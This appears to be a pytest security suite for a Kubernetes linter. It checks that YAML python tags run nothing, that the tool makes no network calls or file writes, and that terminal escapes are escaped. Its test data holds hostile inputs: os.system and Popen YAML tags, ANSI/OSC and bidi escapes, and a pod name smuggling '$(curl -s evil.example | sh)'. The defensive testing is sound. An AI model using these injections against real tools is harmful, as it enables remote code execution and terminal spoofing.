"""Safety: plain data only from YAML, no network, no writes, and no input text reaching a terminal raw."""

from __future__ import annotations

import ast
import json
import re
import subprocess
import sys
import textwrap
from xml.etree import ElementTree

import pytest

from conftest import FIXTURES, ROOT
from kubelint_py import engine, report
from kubelint_py.loader import load_text
from kubelint_py.schemas import resolve_version

# Everything escaping.printable() must escape; rich's own colour codes are the only escapes allowed out.
UNSAFE = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
OWN_COLOUR = re.compile(r"\x1b\[[0-9;]*m")


# --- YAML gives plain data ------------------------------------------------------------------------------


PYTHON_TAGS = """\
apiVersion: v1
kind: ConfigMap
metadata:
  name: !!python/object/apply:os.system ["touch {marker}"]
  labels: !!python/object/new:subprocess.Popen {{args: [touch, "{marker}"]}}
data:
  a: !!python/name:os.system
  b: !!python/module:os
  c: !!python/object:argparse.Namespace {{x: 1}}
  d: !!python/tuple [1, 2]
  e: !<tag:yaml.org,2002:python/object/apply:os.system> ["touch {marker}"]
"""


def test_python_tags_load_as_plain_data_and_run_nothing(tmp_path, monkeypatch):
    marker = tmp_path / "kubelint-was-here"
    monkeypatch.chdir(tmp_path)
    loaded = load_text(PYTHON_TAGS.format(marker=marker), "tags.yaml")
    assert loaded.findings == []
    body = loaded.documents[0].body
    assert body["metadata"] == {"name": [f"touch {marker}"], "labels": {"args": ["touch", str(marker)]}}
    assert body["data"] == {"a": "", "b": "", "c": {"x": 1}, "d": [1, 2], "e": [f"touch {marker}"]}
    assert not marker.exists()


def test_python_tags_through_the_whole_command(kubelint, tmp_path, monkeypatch):
    marker = tmp_path / "kubelint-was-here"
    monkeypatch.chdir(tmp_path)
    path = tmp_path / "tags.yaml"
    path.write_text(PYTHON_TAGS.format(marker=marker))
    result = kubelint("check", "--format", "json", path)
    assert result.exit_code == 1  # schema errors: a list where a string belongs, and so on
    assert {f["rule"] for f in json.loads(result.stdout)["findings"]} == {"schema/type"}
    assert not marker.exists()


# --- no network, no writes ------------------------------------------------------------------------------

AUDIT = textwrap.dedent("""
    import os, sys
    seen = []
    WRITE = os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_APPEND | os.O_TRUNC

    def hook(event, args):
        if event == "open":
            path, mode, flags = args
            if (isinstance(mode, str) and set(mode) & set("wax+")) or (flags or 0) & WRITE:
                seen.append(f"write {path}")
        elif event in ("socket.getaddrinfo", "socket.gethostbyname", "socket.gethostbyname_ex",
                       "urllib.Request", "http.client.connect"):
            seen.append(f"{event} {args}")
        elif event == "socket.connect" and isinstance(args[1], tuple):  # inet, not a local socket pair
            seen.append(f"{event} {args[1]}")
        elif event in ("os.remove", "os.rename", "os.mkdir", "os.rmdir", "os.chmod", "os.symlink",
                       "os.truncate", "shutil.rmtree", "shutil.copyfile", "shutil.move"):
            seen.append(f"{event} {args}")

    sys.addaudithook(hook)
    from kubelint_py.cli import app
    try:
        app(sys.argv[1:], standalone_mode=False)
    except SystemExit:
        pass
    except Exception as error:  # click raises typer.Exit as its own exception outside standalone mode
        if type(error).__name__ != "Exit":
            raise
    sys.stderr.write("AUDIT " + repr(seen) + "\\n")
""")


def audited(*args: str) -> tuple[str, list[str]]:
    """Run kubelint under the audit hook: its stdout, and the network and write events it caused."""
    result = subprocess.run([sys.executable, "-B", "-c", AUDIT, *args], capture_output=True, text=True, cwd=ROOT,
                            timeout=300, stdin=subprocess.DEVNULL)
    audit = [line for line in result.stderr.splitlines() if line.startswith("AUDIT ")]
    assert len(audit) == 1, result.stderr
    return result.stdout, ast.literal_eval(audit[0][len("AUDIT "):])


MANIFESTS = [str(FIXTURES / name) for name in ("bad", "check", "examples")]


@pytest.mark.parametrize("args", [
    ["check", "--format", "text", *MANIFESTS],
    ["check", "--format", "json", *MANIFESTS],
    ["simulate", str(FIXTURES / "examples")],
    ["diagnose", *map(str, sorted((FIXTURES / "diagnose" / "runtime").iterdir()))],
], ids=["check-text", "check-json", "simulate", "diagnose"])
def test_no_network_and_nothing_written(args):
    stdout, events = audited(*args)
    assert stdout.count("\n") > 10  # it did its work
    assert events == []


def test_only_the_named_output_file_is_written(tmp_path):
    report = tmp_path / "kubelint.sarif"
    stdout, events = audited("check", "--format", "sarif", "--output", str(report), *MANIFESTS)
    assert events == [f"write {report}"]
    assert report.stat().st_size > 1000


# --- output escapes what it takes from the input --------------------------------------------------------

HOSTILE = {
    "ansi": "\x1b[2J\x1b[31mred",
    "title": "\x1b]0;pwned\x07",
    "c1": "\x9b31m\x85next",
    "bidi": "admin\u202egnp.exe",
    "separators": "a\u2028b\u2029c",
    "cr": "overwrite\rline",
    "del": "x\x7fy",
}


def hostile_manifests() -> str:
    """Hostile strings where kubelint quotes the input back: names, unknown keys, values, kinds."""
    docs = []
    for key, text in HOSTILE.items():
        quoted = json.dumps(text)  # a JSON string is a YAML double-quoted string, escapes and all
        docs.append(f"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {quoted}\n  namespace: {quoted}\n"
                    f"data:\n  {quoted}: 1\n  {json.dumps(key + text)}: [x]\n{quoted}: unknown\n")
        docs.append(f"apiVersion: example.com/v1\nkind: {quoted}\nmetadata: {{name: {quoted}}}\n")
        docs.append(f"apiVersion: v1\nkind: Service\nmetadata: {{name: x}}\nspec:\n  type: {quoted}\n")
    return "---\n".join(docs)


@pytest.fixture
def hostile_dir(tmp_path):
    (tmp_path / "hostile.yaml").write_text(hostile_manifests())
    named = tmp_path / "\x1b[2Jname\u202e.yaml"
    named.write_text("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\ndata: {k: 1}\n")
    (tmp_path / "undecodable-\udcff.yaml").write_bytes(b"apiVersion: v1\nkind: Nope\nmetadata: {name: a}\n")
    (tmp_path / "raw-control.yaml").write_bytes(b"apiVersion: v1\nkind: ConfigMap\ndata: {k: \"\x1b[2J\"}\n")
    return tmp_path


def test_json_escapes_every_hostile_character(kubelint, hostile_dir):
    result = kubelint("check", "--format", "json", hostile_dir)
    assert not UNSAFE.search(result.stdout.replace("\n", ""))
    data = json.loads(result.stdout)
    messages = " ".join(f["message"] + " " + json.dumps(f["object"]) for f in data["findings"])
    for text in HOSTILE.values():  # escaped, not lost: the strings come back whole after decoding
        assert text in messages or json.dumps(text)[1:-1] in messages, text
    files = {f["file"] for f in data["findings"]}
    assert str(hostile_dir / "\x1b[2Jname\u202e.yaml") in files
    assert str(hostile_dir / "undecodable-\udcff.yaml") in files


def test_text_report_shows_hostile_characters_as_escapes(kubelint, hostile_dir):
    result = kubelint("check", hostile_dir)
    assert result.exit_code == 2
    assert not UNSAFE.search(result.stdout.replace("\n", ""))
    assert "\\x1b[2Jname\\u202e.yaml" in result.stdout
    assert "undecodable-\\xff.yaml" in result.stdout
    assert "ConfigMap/\\x1b[2J\\x1b[31mred/\\x1b[2J\\x1b[31mred" in result.stdout
    assert "admin\\u202egnp.exe" in result.stdout


@pytest.mark.parametrize("output", ["sarif", "junit", "github"])
def test_machine_formats_escape_every_hostile_character(kubelint, hostile_dir, output):
    result = kubelint("check", "--format", output, hostile_dir)
    assert result.exit_code == 2 and result.stderr == ""
    assert not UNSAFE.search(result.stdout.replace("\n", ""))
    if output == "sarif":
        uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                for r in json.loads(result.stdout)["runs"][0]["results"]}
        assert any(uri.endswith("undecodable-%FF.yaml") for uri in uris)  # the file's own byte
    elif output == "junit":
        ElementTree.fromstring(result.stdout)
    assert "undecodable-%FF.yaml" in result.stdout or "undecodable-\\xff.yaml" in result.stdout


def test_simulate_escapes_what_it_quotes(kubelint, hostile_dir):
    text = kubelint("simulate", hostile_dir)
    assert text.exit_code == 2  # some inputs cannot be read
    assert not UNSAFE.search((text.stdout + text.stderr).replace("\n", ""))
    assert "ConfigMap \\x1b[2J\\x1b[31mred" in text.stdout and "undecodable-\\xff.yaml" in text.stdout
    data = kubelint("simulate", "--format", "json", hostile_dir).stdout
    assert not UNSAFE.search(data.replace("\n", ""))
    assert "\x1b[2J\x1b[31mred" in {o["name"] for o in json.loads(data)["objects"]}


def test_coloured_text_report_emits_only_its_own_colour_codes(hostile_dir):
    result = engine.check([str(hostile_dir)], engine.Options(resolve_version(None)))
    text = report.render_text(result, color=True)
    assert OWN_COLOUR.search(text)
    assert not UNSAFE.search(OWN_COLOUR.sub("", text).replace("\n", ""))


def test_huge_lines_and_values_keep_the_text_report_readable(kubelint, tmp_path):
    key, value = "k" * 1000, "v" * 100_000  # libyaml allows keys up to 1024 characters
    labels = ", ".join(f"l{i}: v{i}" for i in range(50_000))  # one line of 900 kB
    (tmp_path / "huge.yaml").write_text(
        f"apiVersion: v1\nkind: Service\nmetadata: {{name: huge, labels: {{{labels}, {key}: 1}}}}\n"
        f"spec: {{ports: [{{port: 80}}]}}\n---\napiVersion: v1\nkind: {value}\nmetadata: {{name: x}}\n")
    result = kubelint("check", tmp_path)
    assert result.exit_code == 1
    assert max(len(out) for out in result.stdout.splitlines()) < 1000
    assert "expected string, got integer" in result.stdout and "no kind 'vvvv" in result.stdout
    data = json.loads(kubelint("check", "--format", "json", tmp_path).stdout)
    found = {(f["rule"], f["path"]): f["message"] for f in data["findings"]}
    assert ("schema/type", f"metadata.labels.{key}") in found
    assert value in found[("schema/unknown-kind", "kind")]  # JSON keeps the whole of it


def test_reports_are_utf8_even_on_a_latin1_terminal(tmp_path):
    (tmp_path / "caf\u00e9-\u65e5\u672c.yaml").write_text("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n"
                                                           "data: {k: 1}\n")
    for output in ("text", "json", "sarif", "junit", "github"):
        result = subprocess.run([sys.executable, "-m", "kubelint_py", "check", "--format", output, str(tmp_path)],
                                capture_output=True, cwd=ROOT, timeout=120, env={"PYTHONIOENCODING": "latin-1"},
                                stdin=subprocess.DEVNULL)
        assert result.returncode == 1, result.stderr
        name = "caf%C3%A9-%E6%97%A5%E6%9C%AC.yaml" if output == "sarif" else "caf\u00e9-\u65e5\u672c.yaml"  # SARIF: a URI
        assert name in result.stdout.decode("utf-8")
    simulated = subprocess.run([sys.executable, "-m", "kubelint_py", "simulate", str(tmp_path)], capture_output=True,
                               cwd=ROOT, timeout=120, env={"PYTHONIOENCODING": "latin-1"}, stdin=subprocess.DEVNULL)
    assert simulated.returncode == 1, simulated.stderr
    assert "caf\u00e9-\u65e5\u672c.yaml" in simulated.stdout.decode("utf-8")


# --- kubelint diagnose quotes kubectl output --------------------------------------------------------------

CRAFTED_DESCRIBE = """\
Name:             web-7d4f9$(curl -s evil.example | sh)\x1b]0;owned\x07
Namespace:        shop
Status:           Pending
Events:
  Type     Reason            Age   From               Message
  ----     ------            ----  ----               -------
  Warning  FailedScheduling  2m    default-scheduler  0/3 nodes are available: \x1b[2J3 Insufficient cpu.
"""


def test_diagnose_escapes_what_it_quotes_and_shell_quotes_its_commands(kubelint, tmp_path):
    path = tmp_path / "describe.txt"
    path.write_text(CRAFTED_DESCRIBE)
    result = kubelint("diagnose", path)
    assert result.exit_code == 1
    assert not UNSAFE.search(result.stdout.replace("\n", ""))
    assert "Insufficient cpu" in result.stdout and "\\x1b[2J" in result.stdout
    naming_the_pod = [line for line in result.stdout.splitlines() if line.strip().startswith("$ ") and "web-" in line]
    assert naming_the_pod  # quoted for the shell, then escaped for the terminal
    assert all("'web-7d4f9$(curl -s evil.example | sh)\\x1b]0;owned\\x07'" in line for line in naming_the_pod)
    data = json.loads(kubelint("diagnose", "--format", "json", path).stdout)
    assert data["pods"][0]["name"] == "web-7d4f9$(curl -s evil.example | sh)\x1b]0;owned\x07"
